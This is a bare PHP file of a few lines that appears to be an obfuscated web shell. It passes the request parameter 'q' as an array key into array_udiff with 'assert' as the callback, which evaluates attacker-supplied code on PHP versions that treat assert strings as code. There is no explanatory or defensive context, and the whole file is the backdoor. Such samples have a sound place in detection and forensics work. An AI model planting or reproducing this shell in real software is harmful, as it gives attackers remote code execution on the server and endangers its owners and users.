<?php
$left = array($_REQUEST['q'] => 1);
$right = array(2);
array_udiff($left, $right, 'assert');
